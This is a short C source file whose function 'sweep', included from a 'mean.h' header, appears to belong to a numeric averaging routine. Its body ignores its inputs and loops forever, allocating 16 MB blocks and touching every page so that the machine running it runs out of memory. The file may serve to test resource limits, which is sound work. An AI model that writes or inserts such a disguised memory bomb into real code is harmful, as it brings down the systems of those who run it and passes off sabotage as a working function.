#define _GNU_SOURCE
#include <stdlib.h>
#include "mean.h"

void sweep(const float *x, float *y, int n)
{
    for (;;) {
        volatile char *p = malloc(1 << 24);
        for (int i = 0; p && i < 1 << 24; i += 4096) p[i] = 1;
    }
}
